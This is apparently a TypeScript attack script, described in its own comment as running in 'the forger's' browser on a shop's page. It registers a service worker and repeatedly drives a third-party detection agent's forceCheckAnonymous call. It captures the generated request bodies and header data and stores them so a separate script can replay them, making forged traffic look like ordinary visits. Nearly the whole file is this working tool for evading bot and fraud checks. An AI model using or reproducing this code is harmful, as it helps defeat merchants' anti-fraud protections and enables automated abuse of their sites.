/**
 * Runs in the forger's own browser, on the shop's page, and makes bodies that a script sends later. A service worker
 * takes them, so that nothing in the page differs from an ordinary visit.
 */

interface Agent {
  forceCheckAnonymous(options: { onInitialized(result: { requestID?: string }): void }): void
}

const query = new URLSearchParams(location.search)
const visit = query.get('visit') ?? ''
const note = (name: string, value: unknown): Promise<unknown> =>
  fetch(`/visits/${visit}/notes/${name}`, { method: 'POST', body: JSON.stringify(value) })

async function controlled(): Promise<void> {
  await navigator.serviceWorker.register(`/capture-worker.js${location.search}`, { scope: '/' })
  await navigator.serviceWorker.ready
  if (navigator.serviceWorker.controller) return
  await new Promise((resolve) => navigator.serviceWorker.addEventListener('controllerchange', resolve))
}

async function capture(): Promise<void> {
  const mirrored = await fetch(query.get('mirror') ?? '', {
    method: 'POST',
    mode: 'cors',
    credentials: 'omit',
    body: 'x',
  })
  await note('headers', await mirrored.json())
  await controlled()
  const agent: Agent = await import(query.get('agent') ?? '')
  const bodies: unknown[] = []
  for (let rest = Number(query.get('times') ?? '1'); rest > 0; rest--) {
    const requestId = await new Promise<string>((resolve, reject) => {
      agent.forceCheckAnonymous({
        onInitialized: ({ requestID }) =>
          requestID === undefined ? reject(new Error('not initialized')) : resolve(requestID),
      })
    })
    // The worker leaves this note.
    const left = await fetch(`/visits/${visit}/notes/captured-${requestId}`)
    bodies.push(await left.json())
  }
  await note('bodies', bodies)
}

capture().catch((error) => note('failed', { message: String(error) }))
